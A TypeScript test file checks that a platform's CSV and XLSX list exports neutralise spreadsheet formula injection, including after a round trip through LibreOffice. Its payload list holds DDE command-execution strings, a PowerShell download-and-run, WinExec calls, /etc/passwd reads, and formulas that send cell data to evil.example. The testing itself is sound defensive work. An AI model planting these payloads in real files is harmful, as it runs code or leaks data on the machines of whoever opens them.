/** No export carries a formula that somebody typed into a field: 208 payloads through every list's xlsx and CSV, and through LibreOffice and back. */
import { execFileSync, spawnSync } from 'node:child_process'
import { mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import { buffer } from 'node:stream/consumers'
import { read, utils, type WorkBook } from '@e965/xlsx'
import { expect, test } from 'vitest'
import { endpointName } from '#platform/server/http/registry.ts'
import { sheetOf } from '#platform/server/list/export.ts'
import { csvStream } from '#platform/server/spreadsheet/csv.ts'
import type { SheetColumn, SheetRow } from '#platform/server/spreadsheet/sheet.ts'
import { xlsxStream } from '#platform/server/spreadsheet/xlsx.ts'
import { systemRegistry } from './server.ts'

const BEGINNINGS = ['=', '+', '-', '@', '\t=', '\r=', '\n=', ' =', '＝', '＋', '－', '＠', '"=', "'=", ';=', ',=']
const BODIES = [
  '1+1',
  "cmd|' /C calc'!A0",
  'HYPERLINK("http://evil.example/?x="&A1,"Xem")',
  'IMPORTXML(CONCAT("http://evil.example/?v=",A1),"//a")',
  'DDE("cmd";"/C calc";"x")',
  'WEBSERVICE("http://evil.example/"&A1)',
  "SUM(1+1)*cmd|' /C powershell IEX(wget evil.example)'!A0",
  'INDIRECT("\'file:///etc/passwd\'#$passwd.A1")',
  "'file:///etc/passwd'#$passwd.A1",
  'IF(1=1,"đúng","sai")',
  "rundll32|'URL.dll,OpenURL calc.exe'!A",
  'CALL("Kernel32","WinExec","JCJ","calc",0)',
  'NOW()',
]
const PAYLOADS = BEGINNINGS.flatMap((beginning) => BODIES.map((body) => beginning + body))
/** What a spreadsheet program would take for the beginning of a formula when it reads a csv. */
const RUNS = /^[=+\-@\t\r\n＝＋－＠]/

async function* from(rows: readonly SheetRow[]): AsyncGenerator<SheetRow> {
  yield* rows
}

const cellsOf = (book: WorkBook) => Object.values(book.Sheets).flatMap((sheet) => Object.entries(sheet).filter(([place]) => !place.startsWith('!')))
const formulasIn = (book: WorkBook) => cellsOf(book).filter(([, cell]) => cell.f !== undefined || cell.F !== undefined || cell.t === 'e')

const registry = systemRegistry()
const lists = [...registry.entries.values()].flatMap((entry) => (entry.kind === 'list' ? [entry] : []))

test('there are enough of them', () => {
  expect(new Set(PAYLOADS).size).toBeGreaterThanOrEqual(200)
})

test.each(lists.map((entry) => [endpointName(entry.contract), entry] as const))('%s exports every payload in every field as text', async (_name, entry) => {
  const make = () => {
    const sheet = sheetOf({ ...entry.contract, sums: [] }, registry.modules, 'vi')
    const rows = PAYLOADS.map((payload) => sheet.toRow(Object.fromEntries(Object.keys(entry.contract.row.shape).map((field) => [field, payload]))))
    return { columns: sheet.columns, rows: from(rows) }
  }
  const book = read(await buffer(xlsxStream({ ...make(), sheetName: 'x' })), { cellFormula: true })
  expect(formulasIn(book)).toEqual([])
  expect(cellsOf(book).filter(([, cell]) => cell.t === 's').length).toBeGreaterThanOrEqual(PAYLOADS.length)
  const csv = read((await buffer(csvStream(make()))).toString('utf8'), { type: 'string', raw: true })
  expect(cellsOf(csv).flatMap(([, { v }]) => (RUNS.test(String(v)) ? [v] : []))).toEqual([])
})

const soffice = spawnSync('soffice', ['--version'], { stdio: 'ignore' }).status === 0

test.skipIf(!soffice)('LibreOffice opens, saves and opens them again, and none has become a formula', { timeout: 300_000 }, async () => {
  const folder = mkdtempSync(join(tmpdir(), 'buutram-formulas-'))
  const profile = `-env:UserInstallation=file://${folder}/profile`
  const convert = (file: string, to: string, more: string[] = []) => {
    execFileSync('soffice', [profile, '--headless', ...more, '--convert-to', to, '--outdir', join(folder, 'out'), join(folder, file)], { stdio: 'ignore' })
    return readFileSync(join(folder, 'out', file.replace(/\.\w+$/, `.${to.split(':')[0]}`)))
  }
  try {
    const columns: SheetColumn[] = (['text', 'money', 'integer', 'date', 'timestamp', 'bool'] as const).map((kind) => ({ header: `=${kind}`, kind }))
    const rows = PAYLOADS.map((payload): SheetRow => columns.map(() => payload))
    const shown = (book: WorkBook) => utils.sheet_to_json<string[]>(Object.values(book.Sheets)[0] ?? {}, { header: 1 }).map(([first]) => String(first))
    writeFileSync(join(folder, 'a.xlsx'), await buffer(xlsxStream({ columns, rows: from(rows), sheetName: 'x', totals: rows[0] ?? [] })))
    const saved = read(convert('a.xlsx', 'xlsx'), { cellFormula: true })
    expect(formulasIn(saved)).toEqual([])
    expect(
      shown(saved)
        .slice(1, -1)
        .map((text) => text.replace(/\s/g, '')),
    ).toEqual(PAYLOADS.map((text) => text.replace(/\s/g, '')))

    // With "evaluate formulas" on, as a careless person would open it.
    writeFileSync(join(folder, 'b.csv'), await buffer(csvStream({ columns, rows: from(rows) })))
    const opened = read(convert('b.csv', 'xlsx', ['--infilter=CSV:44,34,76,1,,1033,false,true,false,false,false,-1,true']), { cellFormula: true })
    expect(formulasIn(opened)).toEqual([])
    expect(shown(opened).length).toBeGreaterThan(PAYLOADS.length)
  } finally {
    rmSync(folder, { recursive: true, force: true })
  }
})
